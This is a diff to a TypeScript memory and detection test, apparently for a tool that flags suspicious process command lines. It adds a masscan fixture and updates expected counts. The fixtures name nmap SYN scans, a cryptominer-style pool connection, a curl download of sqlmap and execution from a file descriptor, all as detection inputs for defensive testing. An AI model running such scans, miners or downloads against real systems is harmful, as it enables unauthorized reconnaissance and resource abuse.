@@ -102,9 +102,9 @@ t.test('no finding and no memory holds on to the long command lines that they sa
   const before = settledHeap()
   for (let index = 2; index < 22; index += 1) observe(index)
   const growth = settledHeap() - before
-  t.equal(pods.length, 132)
+  t.equal(pods.length, 154)
   t.ok(store.takeUpdates().length >= 100)
-  t.ok(growth < 10 * MEGABYTE, `grew by ${growth} bytes over 120 command lines of a megabyte each`)
+  t.ok(growth < 10 * MEGABYTE, `grew by ${growth} bytes over 140 command lines of a megabyte each`)
 })
 
 /** Tools by their name, in a shell's text, by what they say, fetched; a program of no file; names that nobody knows. */
@@ -114,6 +114,8 @@ function longCommands(index: number): readonly (readonly [string, string])[] {
     ['/bin/sh', `-c "exec /opt/some-folder-${index}/nmap-7.94-static -sS 10.0.0.${index}"`],
     ['/opt/program-of-no-name', `--donate-level=1 ${index} -o stratum+tcp://pool:1`],
     ['/bin/bash', `-c "curl -O http://host-${index}.example/sqlmap.zip ; another-program-${index}`],
+    // Two units of text a character: cut by characters, nothing is left out of the first thousand units.
+    ['/usr/bin/masscan', `${index} ${'\u{1f4a5}'.repeat(600)}`],
     ['/dev/fd/7', `${index}`],
     ['/usr/bin/env', `a-program-that-nobody-has-ever-seen-${index}`],
   ]
